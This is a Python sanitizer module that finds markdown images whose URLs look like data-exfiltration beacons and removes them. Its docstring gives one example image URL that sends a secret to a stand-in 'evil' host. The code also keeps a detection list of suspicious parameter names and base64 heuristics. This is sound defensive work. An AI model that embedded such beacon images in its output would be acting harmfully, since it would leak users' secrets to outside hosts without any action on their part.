"""Neutralize markdown images that smuggle data out through their URL.

Images render without any user action, so ``![x](https://evil/?d=<secret>)``
leaks data the moment a client displays it. Plain links are left alone.
"""

from __future__ import annotations

import re
from urllib.parse import parse_qsl, urlsplit

from .stats import StageResult

EXFIL_PARAM_NAMES = frozenset({"exfil", "data", "payload", "stolen", "leak", "extract", "dump"})

MAX_QUERY_VALUE_LENGTH = 100
MAX_URL_LENGTH = 500

_MD_IMAGE_RE = re.compile(r"!\[([^\]]*)\]\(([^)]+)\)")
_MD_TITLE_RE = re.compile(r"""\s+(?:"[^"]*"|'[^']*')\s*$""")
_BASE64_VALUE_RE = re.compile(r"[A-Za-z0-9+/]{20,}={0,2}")


def is_suspicious_url(url: str) -> bool:
    """Return True if an image URL looks like an exfiltration beacon.

    URLs that do not parse as absolute ``scheme://host`` URLs are treated as
    not suspicious.
    """
    try:
        parts = urlsplit(url)
        if not parts.scheme or not parts.netloc:
            return False
        params = parse_qsl(parts.query, keep_blank_values=True)
    except ValueError:
        return False

    for _, value in params:
        if len(value) > MAX_QUERY_VALUE_LENGTH:
            return True
        if _BASE64_VALUE_RE.fullmatch(value):
            return True
    if any(name.lower() in EXFIL_PARAM_NAMES for name, _ in params):
        return True
    return len(url) > MAX_URL_LENGTH


def _image_url(target: str) -> str:
    """Strip an optional markdown title from an image target."""
    return _MD_TITLE_RE.sub("", target.strip())


def sanitize_exfiltration(text: str) -> StageResult:
    count = 0

    def _replace(match: re.Match[str]) -> str:
        nonlocal count
        alt, target = match.group(1), match.group(2)
        if not is_suspicious_url(_image_url(target)):
            return match.group(0)
        count += 1
        return f"[image: {alt}]" if alt else "[image removed]"

    result = _MD_IMAGE_RE.sub(_replace, text)
    return StageResult(text=result, stats={"exfiltration_urls": count})
